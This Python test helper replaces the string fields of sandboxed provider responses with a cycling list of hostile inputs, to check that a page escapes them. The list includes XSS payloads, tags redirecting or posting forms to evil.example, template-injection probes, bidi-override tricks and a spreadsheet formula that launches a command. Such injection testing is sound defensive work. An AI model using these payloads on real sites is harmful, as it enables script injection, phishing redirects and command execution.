"""Texts with which a provider, or whoever fills in its forms, could attack a page."""

import itertools
import json
from dataclasses import replace
from typing import Any

STRINGS = [
    "<script>window.hacked=1</script>", "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>", "'\"><img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>", "<svg/onload=window.hacked=1>", "<iframe src=javascript:1>",
    "<a href=javascript:window.hacked=1>x</a>", "javascript:window.hacked=1", "data:text/html,<b>",
    "\" onmouseover=\"window.hacked=1", "' onfocus='window.hacked=1' autofocus='",
    "\" style=\"position:fixed;inset:0\" x=\"", "<style>*{display:none}</style>",
    "</style><b>", "<!-- ", "--><b>", "<![CDATA[<b>]]>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>",
    "<input name=csrfmiddlewaretoken value=x>", "<template><script>1</script></template>",
    "<math><mi//xlink:href=\"data:x,1\">", "<object data=//evil.example>",
    "<embed src=//e.example>",
    "<link rel=stylesheet href=//evil.example>", "<details open ontoggle=window.hacked=1>",
    "<div hx-get=//evil.example hx-trigger=load>", "<b hx-on::load=\"window.hacked=1\">x</b>",
    "<video><source onerror=window.hacked=1>", "<marquee onstart=window.hacked=1>",
    "{{ 7*7 }}", "{% debug %}", "{{ request.user.password }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "%s%s%n", "%(name)s", "{0.__class__}", "\\u003cscript\\u003e", "&lt;script&gt;", "&#60;b&#62;",
    "%3Cscript%3E", "\u2028window.hacked=1\u2029", "\u202egnp.exe", "\u2066\u202dabc\u2069",
    "\u200f\u200e\u061c", "\ufeffzero\u200bwidth", "قهوة <b>عريض</b>",
    "سارة\" onclick=\"window.hacked=1",
    "مرحبا</bdi></td></tr></table>", "٤٢ <script>window.hacked=1</script> ر.س", "a\nb\tc\rd",
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "🧾" * 40,
]  # fmt: skip

# What a row cannot do without; every other text is replaced.
KEPT = {
    "id", "tid", "uuid", "created_at", "updated_at", "expired_at", "value", "total", "count",
    "amount", "merchant_id", "card_acceptor_terminal_id", "current", "currency", "pages",
    "transaction_currency_code", "start_date", "start_time", "end_date", "end_time",
}  # fmt: skip


def poison(sandbox: Any) -> None:
    """Have a sandbox answer with a hostile text wherever it may."""
    plain, words = sandbox.answer, itertools.cycle(STRINGS)

    def answer(request: Any) -> Any:
        found = plain(request)
        if found.status >= 300 or not found.body:
            return found
        body = json.dumps(_poisoned(json.loads(found.body), "", words), ensure_ascii=False)
        return replace(found, body=body.encode())

    sandbox.answer = answer


def _poisoned(value: Any, key: str, words: Any) -> Any:
    if key in KEPT:
        return value
    if isinstance(value, dict):
        return {name: _poisoned(each, name, words) for name, each in value.items()}
    if isinstance(value, list):
        return [_poisoned(each, key, words) for each in value]
    return next(words) if isinstance(value, str) else value
